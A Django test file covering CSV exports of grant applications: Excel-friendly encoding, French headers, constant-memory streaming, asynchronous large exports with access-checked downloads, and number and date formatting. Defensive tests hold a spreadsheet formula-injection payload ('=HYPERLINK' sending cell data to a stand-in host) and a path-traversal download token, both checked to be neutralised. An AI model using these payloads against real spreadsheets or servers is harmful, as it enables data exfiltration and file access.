"""CSV exports: Excel-friendly encoding, French headers, every row of a 10 000-row list in
constant memory and queries, and large exports built by a Celery task then downloaded."""

import csv
import datetime
import io
import tracemalloc
from decimal import Decimal

import pytest
from django.contrib.messages import get_messages
from django.db import connection
from django.db.models import F, Value
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from applications.models import Application
from applications.models import ApplicationStatus as S
from dataide.audit.models import AuditEvent
from dataide.exports import BOM as BOM_TEXT
from dataide.exports import CHUNK_CHARS, Column, csv_lines, csv_row
from tests.factories import OrganismeFactory, StaffUserFactory
from tests.helpers import login_staff
from tests.staff.factories import bulk_applications, signed_in_team, submitted_application
from tests.trainings.factories import WebinarAttendanceFactory

pytestmark = pytest.mark.django_db
EXPORT = reverse("admin:applications_application_export")
BOM = b"\xef\xbb\xbf"
APPLICATION_HEADERS = [
    "Numéro", "Organisme", "NEQ", "Région", "Volet", "Statut", "Titre du projet", "Montant demandé",
    "Montant accordé", "Soumise le", "Décision le",
]


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(BOM)
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def streamed(response) -> bytes:
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="demandes-')
    return b"".join(response.streaming_content)


def test_filtered_list_export_is_excel_friendly(client):
    signed_in_team(client)
    submitted_application("AMO-2026-0001", title="Équipement pour l'accueil", amount_requested=4321.5)
    submitted_application("AMO-2026-0002", status=S.ELIGIBLE)
    rows = read_csv(streamed(client.get(EXPORT, {"status__exact": S.SUBMITTED})))
    assert rows[0] == APPLICATION_HEADERS
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Numéro"] == "AMO-2026-0001" and row["Titre du projet"] == "Équipement pour l'accueil"
    assert row["Statut"] == "Soumise" and row["Volet"] == "Amorçage"
    assert row["Montant demandé"] == "4321,50" and row["Montant accordé"] == ""


def test_the_list_page_links_to_the_export_with_its_filters(client):
    signed_in_team(client)
    html = client.get(reverse("admin:applications_application_changelist"), {"status__exact": "submitted"}).content.decode()
    assert f'href="{EXPORT}?status__exact=submitted"' in html


def test_organismes_and_attendance_exports_have_french_headers(client):
    signed_in_team(client)
    WebinarAttendanceFactory(attendee_name="Éloïse Gagnon")
    organismes = read_csv(b"".join(client.get(reverse("admin:organismes_organisme_export")).streaming_content))
    assert organismes[0][:3] == ["Nom légal", "NEQ", "Numéro d'organisme de bienfaisance"] and len(organismes) == 2
    attendance = read_csv(b"".join(client.get(reverse("admin:trainings_webinarattendance_export")).streaming_content))
    assert attendance[0][0] == "Webinaire" and "Éloïse Gagnon" in attendance[1]


def test_ten_thousand_applications_all_exported(client, settings):
    settings.EXPORT_ASYNC_THRESHOLD = 20_000
    signed_in_team(client)
    bulk_applications(10_000)
    rows = read_csv(streamed(client.get(EXPORT)))
    assert len(rows) == 10_001
    assert {row[0] for row in rows[1:]} == {f"LOT-{n:06d}" for n in range(10_000)}
    assert rows[1][7] == "4321,50"


def _export_peak_and_queries(client) -> tuple[int, int]:
    response = client.get(EXPORT)
    sizes, lines = [], 0
    tracemalloc.start()
    with CaptureQueriesContext(connection) as queries:
        for chunk in response.streaming_content:
            sizes.append(len(chunk))
            lines += chunk.count(b"\r\n")  # csv's line ends; a newline inside a cell is a bare \n
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    # Sent in pieces of about 64 KB, not one socket write per row (all but the last are full).
    assert all(size >= CHUNK_CHARS for size in sizes[:-1])
    return lines, peak, len(queries)


def test_export_memory_and_queries_stay_flat(client, settings):
    settings.EXPORT_ASYNC_THRESHOLD = 20_000
    signed_in_team(client)
    bulk_applications(1_000)
    lines_small, peak_small, queries_small = _export_peak_and_queries(client)
    bulk_applications(9_000, start=1_000)
    lines_large, peak_large, queries_large = _export_peak_and_queries(client)
    assert (lines_small, lines_large) == (1_001, 10_001)
    assert queries_large == queries_small
    # Ten times the rows, far from ten times the memory: the iterator holds at most two chunks of
    # 2 000 rows (the one being written and the one being fetched), whatever the total.
    assert peak_large < 5 * peak_small, (peak_small, peak_large)
    assert peak_large < 6 * 1024 * 1024, peak_large


def test_large_exports_run_as_a_task_and_are_downloaded_when_ready(client, settings, django_capture_on_commit_callbacks):
    settings.EXPORT_ASYNC_THRESHOLD = 5
    signed_in_team(client)
    bulk_applications(8)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(EXPORT, {"status__exact": S.SUBMITTED})
    assert response.status_code == 302
    [message] = [str(m) for m in get_messages(response.wsgi_request)]
    assert "export de 8 lignes est en préparation." in message
    event = AuditEvent.objects.get(action="export.requested")
    download = reverse("admin:applications_application_export_download", args=[event.data["token"]])
    assert download in message

    file_response = client.get(download)
    assert file_response["Content-Disposition"].startswith('attachment; filename="demandes-')
    rows = read_csv(b"".join(file_response.streaming_content))
    assert len(rows) == 9 and rows[0] == APPLICATION_HEADERS

    # Another person cannot fetch it with the link.
    login_staff(client, StaffUserFactory())
    assert client.get(download).status_code == 302
    assert client.get(reverse("admin:applications_application_export_download", args=["..%2F..%2Fetc"])).status_code == 404


@pytest.mark.parametrize("typed", [
    '=HYPERLINK("https://exemple.test/vol?d="&A1;"Cliquez ici")', "+1 514 555-0199", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "  =1+1",
])
def test_a_text_that_would_run_as_a_formula_is_exported_as_text(client, typed):
    signed_in_team(client)
    submitted_application("AMO-2026-0001", title=typed, organisme=OrganismeFactory(legal_name=typed))
    row = dict(zip(APPLICATION_HEADERS, read_csv(streamed(client.get(EXPORT)))[1], strict=True))
    assert row["Titre du projet"] == "'" + typed and row["Organisme"] == "'" + typed
    assert row["Montant demandé"] == "4000,00"  # numbers stay numbers


def test_negative_numbers_stay_numbers_and_ordinary_text_is_untouched():
    application = submitted_application("AMO-2026-0001", title="Équipement – 2e phase", amount_requested=Decimal("250"))
    queryset = Application.objects.filter(pk=application.pk).annotate(balance=-F("amount_requested"), gap=Value(-3))
    columns = [Column("Titre", "title"), Column("Solde", "balance"), Column("Écart", "gap")]
    rows = read_csv("".join(csv_lines(queryset, columns)).encode())
    assert rows[1] == ["Équipement – 2e phase", "-250,00", "-3"]


class _Rows:
    """Stands for a queryset: `csv_lines` reads `values_list(...).iterator(chunk_size=…)`."""

    def __init__(self, rows):
        self.rows = rows

    def values_list(self, *keys):
        return self

    def iterator(self, chunk_size):
        return iter(self.rows)


@pytest.mark.django_db(databases=[])
def test_the_export_writes_every_cell_as_the_general_formatter_does(settings):
    """The export's per-column fast path (formatters chosen once, text checked in place, rows
    written a batch at a time) gives the same bytes as `_cell` on each value, over more rows than
    one write and one chunk hold."""
    settings.TIME_ZONE = "America/Montreal"
    utc = datetime.UTC
    moments = [
        datetime.datetime(2026, 3, 8, 6, 59, 59, 999999, tzinfo=utc),  # just before the spring change
        datetime.datetime(2026, 11, 1, 5, 30, tzinfo=utc),  # the repeated hour in the fall
        datetime.datetime(2026, 6, 30, 23, 59, 59, tzinfo=utc),  # summer time
        datetime.datetime(2026, 12, 31, 23, 59, 30, tzinfo=utc),  # another day in Montréal
    ]
    texts = ["Équipement", "=HYPERLINK(1)", " -2", "\tonglet", "", "a;b\"c"]
    values = [
        (texts[i % 6], moments[i % 4] if i % 5 else None, Decimal(i) / 7 if i % 3 else None, i % 2 == 0, -i,
         datetime.date(2026, 1, 1 + i % 28), "submitted" if i % 4 else "inconnu")
        for i in range(5000)
    ]
    columns = [Column("Texte", "a"), Column("Moment", "b"), Column("Montant", "c"), Column("Oui", "d"),
               Column("Nombre", "e"), Column("Jour", "f"), Column("Statut", "g", labels=S)]
    with timezone.override("America/Montreal"):
        written = "".join(csv_lines(_Rows(values), columns))
        expected = BOM_TEXT + csv_row([column.header for column in columns]) + "".join(
            csv_row([*row[:-1], str(S(row[-1]).label) if row[-1] in S.values else row[-1]]) for row in values
        )
    # Line lists, so that a failure names the first differing row (a diff of the whole text takes minutes).
    assert written.splitlines(keepends=True) == expected.splitlines(keepends=True)
